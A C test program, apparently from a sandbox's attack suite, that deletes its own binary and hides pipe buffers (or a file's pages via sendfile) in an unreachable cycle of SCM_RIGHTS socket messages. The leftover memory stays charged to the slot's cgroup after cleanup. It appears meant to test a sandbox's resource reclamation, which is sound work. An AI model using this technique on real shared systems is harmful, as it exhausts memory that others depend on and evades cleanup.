// Attacks: the memory of the next run on the slot, without a file. Removes its own file from
// /box, fills argv[1] pipes of 1 MiB each (F_SETPIPE_SZ) and keeps their read ends only in
// flight, in a cycle of SCM_RIGHTS messages no process holds: /box and /tmp hold nothing, but
// the pipe buffers stay charged to the slot's cgroup for as long as the cycle lives, and no
// reclaim frees them.
// With argv[2] "sendfile" the pipes are filled by sendfile(2) from a file /box/source of argv[1]
// MiB, which is left in place: the buffers are then that file's own pages, which outlive the
// unmount of /box (its blocks are freed at once, so the keeper sees nothing left to wait for).
// Prints "planted N MiB" and exits 0.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>

#include "send_fd.h"

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const long pipes = atol(argv[1]);
  const int from_file = argc > 2 && strcmp(argv[2], "sendfile") == 0;
  static char block[1 << 20];
  memset(block, 'x', sizeof block);
  // The program's own file is the only one in /box: without it the box holds nothing.
  if (unlink(argv[0]) != 0) return 3;
  int source = -1;
  if (from_file) {
    source = open("/box/source", O_RDWR | O_CREAT | O_TRUNC, 0600);
    if (source < 0) return 3;
    for (long i = 0; i < pipes; ++i)
      if (write(source, block, sizeof block) != (ssize_t)sizeof block) return 3;
  }
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return 3;
  for (long i = 0; i < pipes; ++i) {
    int ends[2];
    if (pipe(ends) != 0 || fcntl(ends[1], F_SETPIPE_SZ, (int)sizeof block) < (int)sizeof block)
      return 3;
    if (from_file) {
      off_t offset = i * (off_t)sizeof block;
      for (size_t sent = 0; sent < sizeof block;) {
        const ssize_t n = sendfile(ends[1], source, &offset, sizeof block - sent);
        if (n <= 0) return 4;
        sent += (size_t)n;
      }
    } else if (write(ends[1], block, sizeof block) != (ssize_t)sizeof block) {
      return 3;
    }
    close(ends[1]);
    if (send_fd(pair[0], ends[0]) != 0) return 3;
    close(ends[0]);
  }
  // pair[1]'s queue holds the pipes and pair[1] itself, pair[0]'s queue pair[0]: closing them
  // releases neither (a release of any UNIX socket is what makes the kernel collect cycles), and
  // then only the cycle holds them.
  if (send_fd(pair[0], pair[1]) != 0 || send_fd(pair[1], pair[0]) != 0) return 3;
  close(pair[0]);
  close(pair[1]);
  printf("planted %ld MiB\n", pipes);
  return 0;
}
